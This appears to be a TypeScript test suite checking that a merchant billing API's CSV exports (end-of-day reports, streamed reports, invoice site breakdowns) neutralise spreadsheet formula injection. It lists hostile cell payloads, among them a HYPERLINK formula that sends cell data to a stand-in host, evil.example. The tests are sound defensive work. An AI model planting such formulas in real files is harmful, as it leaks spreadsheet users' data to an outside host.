import { randomUUID } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTenantDb } from '../src/access/tenant-db.ts';
import { spreadsheetSafe } from '../src/csv/safe-csv.ts';
import { devices, sites } from '../src/db/schema/index.ts';
import { renderEodCsv } from '../src/modules/eod-reports/eod-files.ts';
import { renderSiteBreakdownCsv } from '../src/modules/invoices/site-breakdown.ts';
import { reportCsv } from '../src/modules/reports/report-csv.ts';
import { type AccessWorld, createAccessWorld } from './access-fixtures.ts';
import { createTestApp, type TestApp } from './helpers/app.ts';

// Attacker review (session 10): CSV formula injection. A site name, display name, device label or description
// is typed by a merchant's user; in a CSV it must never start a formula when the file is opened in a
// spreadsheet (=, +, -, @, tab, CR first). Every CSV the API writes goes through src/csv/safe-csv.ts.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1+cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const cells = (csv: string): string[] =>
  (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
const expectNeutral = (csv: string) => {
  for (const cell of cells(csv)) {
    if (/^[+-]?\d+(\.\d+)?$/.test(cell)) continue; // a plain number (e.g. -12.50) is data
    expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  }
};

describe('CSV formula injection', () => {
  it('prefixes a formula-like cell with an apostrophe and leaves plain numbers and text alone', () => {
    for (const value of HOSTILE) expect(spreadsheetSafe(value)).toBe(`'${value}`);
    for (const value of ['-12.50', '+3', '42', 'Café Nord', '', "'quoted"])
      expect(spreadsheetSafe(value)).toBe(value);
  });

  it('no module writes CSV except through src/csv/safe-csv.ts', async () => {
    const root = join(import.meta.dirname, '../src');
    const offenders: string[] = [];
    for (const entry of await readdir(root, { recursive: true, withFileTypes: true })) {
      if (!entry.isFile() || !entry.name.endsWith('.ts')) continue;
      const path = join(entry.parentPath, entry.name);
      if (relative(root, path) === join('csv', 'safe-csv.ts')) continue;
      if (/from ['"]csv-stringify/.test(await readFile(path, 'utf8'))) offenders.push(relative(root, path));
    }
    expect(offenders).toEqual([]);
  });

  it('neutralises an end-of-day report CSV: site name and device labels', () => {
    const device = (label: string) => ({
      deviceId: randomUUID(),
      serial: 'S-1',
      label,
      currency: 'GBP',
      sales: { count: 1, amount: -1250 },
      tips: { count: 0, amount: 0 },
      refunds: { count: 0, amount: 0 },
      declines: { count: 0, amount: 0 },
      firstTransactionAt: null,
      lastTransactionAt: null,
    });
    const csv = renderEodCsv(
      {
        siteName: HOSTILE[0] ?? '',
        tradingDay: '2026-03-01',
        timeZone: 'Europe/London',
        windowStart: null,
        windowEnd: null,
        generatedAt: null,
        totals: {
          transactionCount: 1,
          currencies: [],
          bySource: [],
          byScheme: [{ scheme: '@scheme', currency: 'GBP', count: 1, amount: 100 }],
          byDevice: HOSTILE.map(device),
          firstTransaction: null,
          lastTransaction: null,
        },
      },
      'en-GB',
    );
    expect(cells(csv)).toContain(`'${HOSTILE[0]}`);
    expect(cells(csv)).toContain('-12.50');
    expectNeutral(csv);
  });

  it('neutralises a report CSV as it streams', async () => {
    const stream = reportCsv(
      {
        header: ['Site', 'Description', 'Amount'],
        total: HOSTILE.length,
        rows: (async function* () {
          for (const value of HOSTILE) yield [value, value, '-12.50'];
        })(),
      },
      () => undefined,
    );
    let csv = '';
    for await (const chunk of stream) csv += String(chunk);
    expect(cells(csv)).toContain("'@SUM(A1:A9)");
    expect(cells(csv)).toContain('-12.50');
    expectNeutral(csv);
  });

  describe("an invoice's per-site breakdown", () => {
    let t: TestApp;
    let w: AccessWorld;
    beforeAll(async () => {
      t = await createTestApp();
      w = await createAccessWorld(t.app, 'CsvInjection');
    });
    afterAll(() => t.close());

    it('neutralises site names and line descriptions', async () => {
      for (const [i, name] of HOSTILE.entries()) {
        const siteId = randomUUID();
        await t.app.db.insert(sites).values({
          merchantId: w.merchantA,
          id: siteId,
          name,
          addressLine1: '1 High Street',
          city: 'London',
          postalCode: 'E1 6AN',
          country: 'GB',
        });
        await t.app.db.insert(devices).values({
          merchantId: w.merchantA,
          siteId,
          serial: `CSV-${i}-${randomUUID().slice(0, 8)}`,
          model: 'with-printer',
          status: 'active',
          assignedAt: new Date('2026-02-15T10:00:00Z'),
        });
      }
      const csv = await createTenantDb(t.app.database).forMerchant(w.merchantA, (tx) =>
        renderSiteBreakdownCsv(tx, w.merchantA, {
          invoiceId: randomUUID(),
          number: 'INV-CSV-1',
          periodStart: '2026-03-01',
          periodEnd: '2026-03-31',
          currency: 'GBP',
          taxPercent: '20.00',
          tax: 0,
          total: 0,
          lines: [
            { kind: 'device-rental', description: 'Card machine rental', unitAmount: 1999, amount: 0 },
            { kind: 'discount', description: '=1+1', unitAmount: -500, amount: -500 },
          ],
        }),
      );
      for (const name of HOSTILE) expect(cells(csv)).toContain(`'${name}`);
      expect(cells(csv)).toContain("'=1+1");
      expect(cells(csv)).toContain('-5.00');
      expectNeutral(csv);
    });
  });
});
